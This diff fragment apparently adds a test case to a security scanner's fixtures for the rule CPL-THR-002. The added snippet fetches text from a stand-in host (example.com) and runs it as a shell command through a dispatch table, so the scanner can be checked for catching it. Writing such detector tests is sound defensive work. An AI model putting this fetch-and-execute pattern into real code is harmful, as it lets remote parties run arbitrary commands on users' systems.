@@ -223,6 +223,12 @@ _FAR_SINKS = {
         "co(code, shell=True)\n",
         "CPL-THR-002",
     ),
+    "process-from-a-dispatch-table": (
+        "import os\nimport requests\n\nHANDLERS = {'run': os.system}\n"
+        "code = requests.get('https://example.com/x').text\n",
+        "HANDLERS['run'](code)\n",
+        "CPL-THR-002",
+    ),
 }
 
 
